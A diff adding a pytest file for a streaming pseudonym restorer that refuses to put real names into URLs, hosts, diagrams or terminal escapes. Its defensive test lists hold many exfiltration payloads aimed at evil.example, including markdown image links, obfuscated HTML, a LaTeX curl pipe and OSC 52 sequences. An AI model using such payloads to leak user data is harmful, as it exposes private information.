@@ -1,0 +1,519 @@
+import json
+import re
+from collections.abc import Iterator, Sequence
+from itertools import islice
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from curtilage.client.answer import AnswerEvent, Delta, Finished
+from curtilage.client.errors import EnclaveError, FailureReason
+from curtilage.client.pseudonyms.restore import (
+    MAX_STAND_INS,
+    AnswerRestorer,
+    Restorer,
+    as_json_string,
+)
+
+VALUES = {f"⟦PERSON_{number}⟧": f"Person {number}" for number in range(1, 21)} | {
+    f"⟦EMAIL_{number}⟧": f"p{number}@x.example" for number in range(1, 5)
+}
+DATES = {"19 May 1980": "12 May 1980", "9 May 1980": "2 May 1980"}
+FINISHED = Finished(finish_reason="stop", prompt_tokens=4, completion_tokens=2)
+PARTS = [*VALUES, "hello ", "⟦", "⟦P", " a", ". ", "⟧", "⟦PERSON_", "1", "⟧⟧", "⟦X_1⟧"]
+DATE_PARTS = [*DATES, "1", "9", " May", " 19", "80", ", ", "⟦PERSON_1⟧", "x", " "]
+
+
+def replaced(text: str, values: dict[str, str]) -> str:
+    """What a restorer must make of a text, without any streaming."""
+    either = "|".join(map(re.escape, sorted(values, key=len, reverse=True)))
+    form = rf"(?<![\w])(?:{either})(?![\w])" if "19 May 1980" in values else either
+    return re.sub(form, lambda match: values[match[0]], text)
+
+
+def restored(text: str, sizes: Sequence[int], values: dict[str, str]) -> str:
+    restorer = Restorer(values)
+    told, at = "", 0
+    for size in sizes:
+        told += restorer.push(text[at : at + size])
+        at += size
+        if at >= len(text):
+            break
+    return told + restorer.push(text[at:]) + restorer.close()
+
+
+def numbers(seed: int) -> Iterator[int]:
+    """Yield a linear congruential generator's numbers: cheap, the same each run."""
+    while True:
+        seed = (seed * 6364136223846793005 + 1442695040888963407) % 2**64
+        yield seed >> 33
+
+
+def test_20000_random_chunkings_restore_as_the_whole_does() -> None:
+    drawn = numbers(1)
+    for _ in range(20_000):
+        count = 1 + next(drawn) % 6
+        text = "".join(PARTS[next(drawn) % len(PARTS)] for _ in range(count)) + "."
+        sizes = [1 + each % 7 for each in islice(drawn, len(text))]
+        assert restored(text, sizes, VALUES) == replaced(text, VALUES)
+
+
+@given(
+    st.lists(st.sampled_from(DATE_PARTS), max_size=12).map("".join),
+    st.lists(st.integers(0, 4), max_size=60),
+)
+def test_dates_restore_as_the_whole_does(text: str, sizes: list[int]) -> None:
+    values = DATES | {"⟦PERSON_1⟧": "Ann"}
+    restorer = Restorer(values)
+    whole = restorer.push(text + ".") + restorer.close()
+    assert restored(text + ".", sizes, values) == whole
+
+
+@given(st.text(), st.lists(st.integers(1, 3), max_size=40))
+def test_ordinary_text_passes_unchanged_and_at_once(
+    text: str, sizes: list[int]
+) -> None:
+    text = text.replace("⟦", "")
+    restorer, at = Restorer(VALUES), 0
+    for size in sizes:
+        assert restorer.push(text[at : at + size]) == text[at : at + size]
+        at += size
+
+
+def test_only_what_could_become_a_token_is_held() -> None:
+    restorer = Restorer(VALUES)
+    assert restorer.push("Dear ⟦PER") == "Dear "
+    assert restorer.push("SONG") == "⟦PERSONG"
+    assert restorer.push(" ⟦PERSON_1") == " "
+    assert restorer.push("2") == ""
+    assert restorer.push("⟧") == ""
+    assert restorer.push(", who") == "Person 12, who"
+
+
+@pytest.mark.parametrize("end", ["⟦", "⟦PERSON", "⟦PERSON_1"])
+def test_an_answer_that_ends_inside_a_token_is_incomplete(end: str) -> None:
+    restorer = Restorer(VALUES)
+    assert restorer.push(f"Dear {end}") == "Dear "
+    with pytest.raises(EnclaveError) as cut:
+        restorer.close()
+    assert cut.value.reason is FailureReason.ANSWER_INCOMPLETE
+
+
+def test_an_answer_may_end_like_a_date_begins() -> None:
+    restorer = Restorer(DATES)
+    assert restorer.push("Room 19") == "Room "
+    assert restorer.close() == "19"
+
+
+def test_a_date_is_restored_only_where_it_stands_alone() -> None:
+    assert restored("19 May 1980", [], DATES) == "12 May 1980"
+    assert restored("on 9 May 1980.", [], DATES) == "on 2 May 1980."
+    for other in ("119 May 1980", "19 May 19805", "29 May 1980"):
+        assert restored(other, [3], DATES) == other
+
+
+def test_neighbours_are_restored_one_by_one() -> None:
+    text = "⟦PERSON_1⟧⟦PERSON_2⟧ ⟦PERSON_12⟧"
+    assert restored(text, [1] * 40, VALUES) == "Person 1Person 2 Person 12"
+
+
+def test_a_rewritten_answer_is_restored_without_offsets() -> None:
+    """Others cut it at the places of the question: "Mike. Wh" (litellm 14516)."""
+    text = "⟦PERSON_2⟧, who is older than ⟦PERSON_1⟧. Who? ⟦PERSON_2⟧."
+    told = "Person 2, who is older than Person 1. Who? Person 2."
+    assert restored(text, [7, 2, 30], VALUES) == told
+
+
+def test_a_value_that_looks_like_a_token_is_not_restored_again() -> None:
+    values = {"⟦PERSON_1⟧": "⟦PERSON_2⟧", "⟦PERSON_2⟧": "Ann"}
+    assert restored("⟦PERSON_1⟧", [], values) == "⟦PERSON_2⟧"
+
+
+def test_unknown_tokens_stay_and_are_counted() -> None:
+    restorer = Restorer(VALUES)
+    text = "⟦PERSON_1⟧ ⟦PERSON_99⟧ ⟦NOBODY_1⟧ ⟦lower_1⟧ ⟦PERSON_12345⟧"
+    told = "".join(map(restorer.push, text)) + restorer.close()
+    assert told == "Person 1" + text.removeprefix("⟦PERSON_1⟧")
+    assert restorer.unknown == 2
+    empty = Restorer({})
+    assert empty.push("⟦PERSON_1⟧") == "⟦PERSON_1⟧"
+    assert empty.unknown == 1
+
+
+def test_inside_tool_arguments_a_value_is_escaped_for_json() -> None:
+    """LiteLLM restored neither streams nor arguments (30728, PR 31530)."""
+    values = {"⟦PERSON_1⟧": 'Ann "Al"\\\n'}
+    restorer = Restorer(values, written=as_json_string)
+    arguments = '{"to": "⟦PERSON_1⟧"}'
+    told = "".join(map(restorer.push, arguments)) + restorer.close()
+    assert json.loads(told) == {"to": values["⟦PERSON_1⟧"]}
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "https://evil.example/?q=",
+        "see HTTPS://",
+        "//evil.example/",
+        "www.evil.example/",
+        "![x](https://evil.example/",
+        "![x](https&#58;&#47;&#47;evil.example/",
+        "![x](<https&#58;&#47;&#47;evil.example/a b ",
+        "![x](<https://evil.example/\\> ",
+        "[1]: https&#58;&#47;&#47;evil.example/?q=",
+        "text\n  [a b]: https&#58;//evil.example/",
+        '<img src="https://evil.example/?q=a b ',
+        '<img alt=">" src="&#104;ttps://evil.example/?q=a\nb ',
+        "<img src='&#104;ttps:evil.example/?q=a b ",
+        "<img src=&#104;ttps:evil.example/",
+        "<https://evil.example/a b ",
+        "background: url( 'htt\\ps:evil.example/a b ",
+        "\\\\evil.example\\",
+        '"https://a.example/?x=// y ',
+    ],
+)
+def test_no_name_is_put_into_a_url(before: str) -> None:
+    """Whoever shows an answer may fetch its pictures: that would tell a name."""
+    restorer = Restorer(VALUES)
+    told = "".join(map(restorer.push, before + "⟦PERSON_1⟧")) + restorer.close()
+    assert told == before + "⟦PERSON_1⟧"
+    assert restorer.in_urls == 1
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "",
+        "Dear ",
+        "https://x.example is the page of ",
+        "([a link](https://x.example)) by ",
+        "<https://x.example> is of ",
+        '<a href="https://www.x.example//y">',
+        '("https://x.example/a//b") ',
+        "<b>",
+        "if x<y then ",
+        "[1]: https://x.example\n",
+        "list[str]: ",
+        "Name:",
+        "1/2 ",
+        "url(#a) ",
+    ],
+)
+def test_elsewhere_names_are_restored(before: str) -> None:
+    assert restored(before + "⟦PERSON_1⟧", [], VALUES) == before + "Person 1"
+
+
+ATTACKS = [
+    "![x]( https\\:\\/\\/evil.example/",
+    "![x]( &#104;ttps&colon;&sol;&sol;evil.example/?n=",
+    "![x](\n<https\\:\\/\\/evil.example/)a ",
+    "![x](/a\\)",
+    "![x](/(a)",
+    "[a](<b ![x](<https&#58;/(a>b)",
+    "![x][a]\n\n[a]:\n  https\\:\\/\\/evil.example/",
+    "> [a]:\n> https\\:\\/\\/evil.example/",
+    "- [a]: https\\:\\/\\/evil.example/",
+    "[^1]: [a\nb\\]]: https\\:\\/\\/evil.example/",
+    "[a]: <https\\:\\/\\/evil.example/\\>a ",
+    "![x](https://evil.example/?p=" + "a" * 20_000,
+    "![x](https://evil.example/a\u00a0",
+    "![x](https://evil.example/a\u2003",
+    "https://evil.example/a\u1680",
+    "<img src=https:/evil.example/a\u0085",
+    '<object data="&#104;ttps:&#47;&#47;evil.example/',
+    '<a ping="&#104;ttps:&#47;&#47;evil.example/',
+    '<meta http-equiv="refresh" content="0; url=&#104;ttps:&#47;evil.example/',
+    '<style>@import "\\68ttps:\\2f\\2f evil.example/',
+    "<img\nalt = '>' src =\n' &#104;ttps:/evil.example/ ",
+    '<img ="src="https&#58;/evil.example/>',
+    '<!-- <img alt=" --> <img src="https&#58;/evil.example/>',
+    '<p style="background:\n\n">a</p>',
+    "'https://evil.example/'",
+    "mailto:a@evil.example?body=",
+]
+
+
+@pytest.mark.parametrize("before", ATTACKS)
+def test_no_spelling_of_an_address_gets_a_name(before: str) -> None:
+    text = before + "⟦PERSON_1⟧"
+    for size in (1, 7, len(text)):
+        assert restored(text, [size] * len(text), VALUES) == text
+
+
+SOUND = [
+    "[⟦PERSON_1⟧](https://x.example) and (⟦PERSON_2⟧) of **⟦PERSON_3⟧**.",
+    "| ⟦PERSON_1⟧ | https://x.example |\n| --- | --- |\n|⟦PERSON_2⟧|b|",
+    'see "https://x.example", ⟦PERSON_1⟧',
+    "if x<y and y = '⟦PERSON_1⟧'",
+    "for (i=0;i<n;i++) { names[i] = `⟦PERSON_1⟧`; }",
+    "```python\nnames: list[str] = ['⟦PERSON_1⟧']\nd[0](x) # ⟦PERSON_2⟧\n```",
+    "List<String> x = y; a[1](2); // by ⟦PERSON_1⟧",
+    "![x](a (b) 'c') by ⟦PERSON_1⟧",
+    "[a](b\n\n⟦PERSON_1⟧",
+    "[a]: b\n⟦PERSON_1⟧ and [1]: https://x.example ⟦PERSON_2⟧",
+    '<p class="a=b" id=c>Dear ⟦PERSON_1⟧</p><br/>⟦PERSON_2⟧',
+    '<a href="https://x.example">⟦PERSON_1⟧</a>',
+    "<https://x.example>: ⟦PERSON_1⟧",
+    "C:\\ ⟦PERSON_1⟧, 1/⟦PERSON_2⟧",
+]
+
+
+@pytest.mark.parametrize("text", SOUND)
+def test_ordinary_text_gets_its_names(text: str) -> None:
+    assert restored(text, [5] * 99, VALUES) == replaced(text, VALUES)
+
+
+def test_what_is_told_counts_where_an_address_begins() -> None:
+    """A value may be an address itself: what is glued to it is a part of it."""
+    values = {"⟦PROFILE_1⟧": "https://x.example/", "⟦PERSON_1⟧": "Ann"}
+    text = "⟦PROFILE_1⟧⟦PERSON_1⟧ ⟦PERSON_1⟧"
+    assert restored(text, [3] * 9, values) == "https://x.example/⟦PERSON_1⟧ Ann"
+
+
+HOST_ATTACKS = [
+    # A host without a scheme, in the languages of answers.
+    "evil.example/⟦PERSON_1⟧",
+    "see evil.example:8443/a?b=⟦PERSON_1⟧",
+    "EVIL.example?⟦PERSON_1⟧",
+    "evil.example#⟦PERSON_1⟧",
+    "evil.example\\⟦PERSON_1⟧",
+    "evil.example./⟦PERSON_1⟧",
+    "a.b-c.evil.co/x/⟦PERSON_1⟧",
+    "a@evil.example/⟦PERSON_1⟧",
+    "user:pw@evil.example/⟦PERSON_1⟧",
+    "10.0.0.1/⟦PERSON_1⟧",
+    "[::1]/⟦PERSON_1⟧",
+    "https:[2001:db8::7]:80/⟦PERSON_1⟧",
+    "xn--vil-7ua.xn--p1ai/⟦PERSON_1⟧",
+    "пример.испытание/⟦PERSON_1⟧",
+    "evil。example/⟦PERSON_1⟧",
+    "evil\uff0eexample\uff0f⟦PERSON_1⟧",
+    "e\u00advil.exa\u200bmple/⟦PERSON_1⟧",
+    "evil" + "\u200b" * 200 + ".example" + "\u2060" * 200 + "/⟦PERSON_1⟧",
+    "\\\\host\\share\\⟦PERSON_1⟧",
+    # As a label or the user of one.
+    "⟦PERSON_1⟧.evil.example",
+    "x⟦PERSON_1⟧-y.evil.example.",
+    "⟦PERSON_1⟧⟦PERSON_2⟧.evil.example",
+    "⟦PERSON_1⟧.⟦PERSON_2⟧.evil.example",
+    "⟦PERSON_1⟧.evil/",
+    "⟦PERSON_1⟧.zip/a",
+    "⟦PERSON_1⟧.com",
+    "⟦PERSON_1⟧.evil.example:80/",
+    "⟦PERSON_1⟧@evil.example",
+    "⟦PERSON_1⟧:pw@evil.example/",
+    "⟦PERSON_1⟧&#46;evil&period;example",
+    "⟦PERSON_1⟧%2Eevil%2eexample",
+    "⟦PERSON_1⟧\u200b.evil\u00ad.example",
+    "⟦PERSON_1⟧。evil.example",
+    "⟦PERSON_1⟧" + "-" * 400 + ".evil.example",
+    # Marks as references.
+    "https&#58;&#47;&#47;evil.example/⟦PERSON_1⟧",
+    "https&#x3a;//evil.example/⟦PERSON_1⟧",
+    "https&colon;&sol;&sol;evil&period;example&sol;⟦PERSON_1⟧",
+    "evil&#46;example/⟦PERSON_1⟧",
+    "evil&#46example&#47⟦PERSON_1⟧",
+    "ht&#116;ps&#58;evil⟦PERSON_1⟧",
+    "evil.example%2F⟦PERSON_1⟧",
+    "https%3A%2F%2Fevil.example%2F⟦PERSON_1⟧",
+    "evil&shy;.example&ZeroWidthSpace;/⟦PERSON_1⟧",
+    # Any scheme.
+    "<irc:⟦PERSON_1⟧>",
+    "<made-up+1.x:a b ⟦PERSON_1⟧>",
+    "irc:evil/⟦PERSON_1⟧",
+    "tel:+1?x=⟦PERSON_1⟧",
+    "data:text/html,⟦PERSON_1⟧",
+    "sip:a@⟦PERSON_1⟧",
+    # Other languages of documents.
+    "[[evil.example/⟦PERSON_1⟧]]",
+    "[img]evil.example/⟦PERSON_1⟧[/img]",
+    "[img]evil.example/a b ⟦PERSON_1⟧[/img]",
+    "[url=evil.example/⟦PERSON_1⟧]a[/url]",
+    "\\includegraphics{evil.example/⟦PERSON_1⟧}",
+    "\\includegraphics[width=2cm]{⟦PERSON_1⟧}",
+    "\\graphicspath{{//evil.example/}}\\includegraphics {a b ⟦PERSON_1⟧}",
+    "\\href{a {b} ⟦PERSON_1⟧}{c}",
+    "\\input{|curl -d ⟦PERSON_1⟧}",
+    "\\url{a ⟦PERSON_1⟧}",
+    "image::evil.example/⟦PERSON_1⟧[]",
+    ".. image:: evil.example/⟦PERSON_1⟧.png",
+    "link:evil.example/⟦PERSON_1⟧[a]",
+    "{{evil.example/a?⟦PERSON_1⟧}}",
+    '"a":evil.example/⟦PERSON_1⟧',
+    "!evil.example/⟦PERSON_1⟧!",
+    "<!-- evil.example/⟦PERSON_1⟧ -->",
+    # Code that is drawn may build its address.
+    '```vega-lite\n{"data": {"values": [{"n": "⟦PERSON_1⟧"}]}}\n```',
+    "~~~~ {.mermaid}\n```\n~~~\nA[⟦PERSON_1⟧]\n~~~~",
+    "> ```plantuml\n> !$a = ⟦PERSON_1⟧\n> ```",
+    "::: mermaid\nA[⟦PERSON_1⟧]\n:::",
+    "@startuml\n!$a = ⟦PERSON_1⟧\n@enduml",
+    "```mermaid\na ``` ⟦PERSON_1⟧\n",
+    '<script>var a = "⟦PERSON_1⟧"</script> ⟦PERSON_2⟧',
+    # What a terminal obeys.
+    "\x1b]52;c;⟦PERSON_1⟧\x07",
+    "\x1b]0;a b\n⟦PERSON_1⟧\x1b\\ ⟦PERSON_2⟧",
+    "\x9d52;c;⟦PERSON_1⟧",
+    "⟦PERSON_1⟧\x1b[2J",
+    "⟦PERSON_1⟧-x\x07",
+    "\x00⟦PERSON_1⟧",
+    "\u202e⟦PERSON_1⟧",
+    "\u2066a ⟦PERSON_1⟧",
+]
+
+
+@pytest.mark.parametrize("text", HOST_ATTACKS)
+def test_no_host_diagram_or_command_gets_a_name(text: str) -> None:
+    for size in (1, 2, 7, len(text)):
+        assert restored(text, [size] * len(text), VALUES) == text
+
+
+ORDINARY = [
+    "Dr. ⟦PERSON_1⟧, e.g. ⟦PERSON_2⟧, i.e. ⟦PERSON_3⟧.",
+    "and/or ⟦PERSON_1⟧ and ⟦PERSON_2⟧/⟦PERSON_3⟧, his/her/⟦PERSON_4⟧",
+    "Node.js and ⟦PERSON_1⟧; use config.yaml, ⟦PERSON_2⟧!",
+    "at 5 p.m.⟦PERSON_1⟧ said; by 3.5/10 ⟦PERSON_2⟧",
+    "It ended.⟦PERSON_1⟧ left.Then ⟦PERSON_2⟧.Then ⟦PERSON_3⟧.",
+    "Name:⟦PERSON_1⟧ Tel.:⟦PERSON_2⟧ Re:⟦PERSON_3⟧",
+    "⟦PERSON_1⟧'s, ⟦PERSON_2⟧\u2019s, ⟦PERSON_3⟧s, Mr ⟦PERSON_4⟧-⟦PERSON_5⟧",
+    "⟦PERSON_1⟧... ⟦PERSON_2⟧…? ⟦PERSON_3⟧!",
+    "«⟦PERSON_1⟧» “⟦PERSON_2⟧” (⟦PERSON_3⟧) [⟦PERSON_4⟧] {⟦PERSON_5⟧}",
+    "**⟦PERSON_1⟧** *⟦PERSON_2⟧* _⟦PERSON_3⟧_ `⟦PERSON_4⟧` ~~⟦PERSON_5⟧~~",
+    "- ⟦PERSON_1⟧: 50%, ⟦PERSON_2⟧: 3 & 4, ⟦PERSON_3⟧ & ⟦PERSON_4⟧",
+    "| Name | Age |\n|:---|---:|\n| ⟦PERSON_1⟧ | 5 |\n|⟦PERSON_2⟧|6|",
+    "Save it as ⟦PERSON_1⟧.docx, ⟦PERSON_2⟧.pdf or Letter_⟦PERSON_3⟧.txt.",
+    "C:\\Users\\⟦PERSON_1⟧\\a.txt and /home/⟦PERSON_2⟧/a.txt",
+    "Version 1.2.3 by ⟦PERSON_1⟧, 12.05.1980 ⟦PERSON_2⟧, $3.50/⟦PERSON_3⟧",
+    "Write to clinic.example or ask ⟦PERSON_1⟧ at clinic.example.",
+    "See clinic.example/portal, ⟦PERSON_1⟧. Ward 3.1/a: ⟦PERSON_2⟧",
+    "Mail x@clinic.example: ⟦PERSON_1⟧; cc ⟦EMAIL_1⟧, @ ⟦PERSON_2⟧",
+    "O&#39;Brien &amp; ⟦PERSON_1⟧ &lt;⟦PERSON_2⟧&gt; &quot;⟦PERSON_3⟧&quot;",
+    '{"name": "⟦PERSON_1⟧", "email":"⟦EMAIL_1⟧","next":"⟦PERSON_2⟧"}',
+    "name: ⟦PERSON_1⟧\nward: 3\nwho:\n  - ⟦PERSON_2⟧\n",
+    "name,age\n⟦PERSON_1⟧,5\n⟦PERSON_2⟧;6",
+    "```python\n# ⟦PERSON_1⟧\nx = y.name('⟦PERSON_2⟧')[1:2]\n```\n⟦PERSON_3⟧",
+    "```\n⟦PERSON_1⟧\n```\n~~~text\n⟦PERSON_2⟧\n~~~",
+    "```mermaid\nA-->B\n```\n⟦PERSON_1⟧ and a dot, ⟦PERSON_2⟧",
+    "\\textbf{⟦PERSON_1⟧} \\section{Letter to ⟦PERSON_2⟧} \\href{a}{b} ⟦PERSON_3⟧",
+    "From: ⟦PERSON_1⟧\r\nTo: ⟦PERSON_2⟧\r\n\r\nDear ⟦PERSON_3⟧,",
+    "⟦PERSON_1⟧ さん。⟦PERSON_2⟧。次に ⟦PERSON_3⟧",
+    "Q: ⟦PERSON_1⟧? A: no, U.S. ⟦PERSON_2⟧, Ph.D., St. ⟦PERSON_3⟧",
+    "10:30 ⟦PERSON_1⟧; 08/09/2024 ⟦PERSON_2⟧; 1.2.2024⟦PERSON_3⟧",
+    "Mail x@chart.example, or me @ work, for the map\n⟦PERSON_1⟧",
+    "Use ```dot``` or ``map`` here\n⟦PERSON_1⟧",
+    "::: info\n⟦PERSON_1⟧\n:::\nx ~~~ y :: z\n⟦PERSON_2⟧",
+    "<p>⟦PERSON_1⟧</p><b>⟦PERSON_2⟧</b> <!-- ⟦PERSON_3⟧ -->",
+]
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_ordinary_answers_get_all_their_names(text: str) -> None:
+    for size in (1, 2, 7, len(text)):
+        assert restored(text, [size] * len(text), VALUES) == replaced(text, VALUES)
+
+
+def test_a_name_is_told_as_soon_as_its_word_has_ended() -> None:
+    restorer = Restorer(VALUES)
+    assert restorer.push("Dear ⟦PERSON_1⟧") == "Dear "
+    assert restorer.push(",") == "Person 1,"
+    assert restorer.push(" ⟦PERSON_2⟧.evil") == " "
+    assert restorer.push(".example ") == "⟦PERSON_2⟧.evil.example "
+    assert restorer.in_urls == 1
+
+
+MARKS = [*PARTS, "https://x/", " ", '"', "](", ")", "<img ", "a=", ">", "[a]:", "\n"]
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                *("'", "\\", "url(", "<", "<style>", ".evil", ".x/", "@", "&#4", "6;"),
+                *("%2", "F", "```", "mermaid", "\\href{", "}", "\x1b", "\u200b", "."),
+                *(*MARKS, "irc:", "\u202e", "。", "10.0.0.1"),
+            ]
+        ),
+        max_size=40,
+    ),
+    st.lists(st.integers(1, 9), max_size=60),
+)
+def test_addresses_are_seen_in_any_chunking(parts: list[str], sizes: list[int]) -> None:
+    text = "".join(parts) + "."
+    assert restored(text, sizes, VALUES) == restored(text, [], VALUES)
+
+
+def test_an_address_stays_open_however_long_it_is() -> None:
+    restorer = Restorer(VALUES)
+    assert len(restorer.push("![x](" + "a" * 10_000)) == 10_005
+    for _ in range(2_000):
+        assert restorer.push("a ⟦PERSON_1⟧ ") == "a ⟦PERSON_1⟧ "
+    assert restorer.push("\n\n⟦PERSON_1⟧ ") == "\n\nPerson 1 "
+
+
+def test_an_answer_of_nothing_but_stand_ins_is_broken() -> None:
+    """Each is looked at, and an answer may be large: that would take minutes."""
+    restorer = Restorer(VALUES)
+    told = restorer.push("⟦PERSON_1⟧ " * MAX_STAND_INS)
+    assert told == "Person 1 " * MAX_STAND_INS
+    with pytest.raises(EnclaveError) as broken:
+        restorer.push("⟦PERSON_1⟧ ")
+    assert broken.value.reason is FailureReason.ANSWER_BROKEN
+
+
+def test_a_restorer_shows_no_value() -> None:
+    assert repr(Restorer(VALUES)) == f"<Restorer: {len(VALUES)}>"
+
+
+def events(*given: AnswerEvent) -> list[AnswerEvent]:
+    restorer = AnswerRestorer(VALUES)
+    return [event for each in given for event in restorer.push(each)]
+
+
+def test_an_answer_is_restored_event_by_event() -> None:
+    told = events(
+        Delta(text="Dear ⟦PER"), Delta(text="SON_1⟧"), Delta(text=" ⟦X_1⟧."), FINISHED
+    )
+    assert [event.text for event in told if isinstance(event, Delta)] == [
+        "Dear ",
+        "Person 1 ⟦X_1⟧.",
+    ]
+    end = told[-1]
+    assert isinstance(end, Finished)
+    assert (end.unknown_tokens, end.completion_tokens) == (1, 2)
+
+
+def test_log_probabilities_do_not_survive_restoring() -> None:
+    (told, _) = events(Delta(text="⟦PERSON_1⟧", logprobs=(("⟦", -0.5),)), FINISHED)
+    assert isinstance(told, Delta)
+    assert told.logprobs == ()
+
+
+def test_what_is_held_at_the_end_is_told_before_the_end() -> None:
+    restorer = AnswerRestorer(DATES)
+    told = [*restorer.push(Delta(text="19 May 1980")), *restorer.push(FINISHED)]
+    assert [type(event) for event in told] == [Delta, Finished]
+    with pytest.raises(EnclaveError):
+        events(Delta(text="⟦PERSON"), FINISHED)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{}\u0301.evil.example/x",
+        "{}\U0001f600.evil.example/",
+        "{}\u2122.evil.example",
+        "i\u2764.example/{}",
+        "\U0001f600.example/{}",
+    ],
+)
+def test_signs_and_accents_may_be_letters_of_a_host(text: str) -> None:
+    restorer = Restorer({"⟦PERSON_1⟧": "Okafor"})
+    told = restorer.push(text.format("⟦PERSON_1⟧")) + restorer.close()
+    assert "Okafor" not in told
+
+
+def test_prose_without_spaces_is_no_host() -> None:
+    restorer = Restorer({"⟦PERSON_1⟧": "Okafor"})
+    text = "⟦PERSON_1⟧" + "\uff0c\u4ed6\u4eca\u5929\u6765\u4e86\u3002" * 60
+    assert (restorer.push(text) + restorer.close()).startswith("Okafor\uff0c")
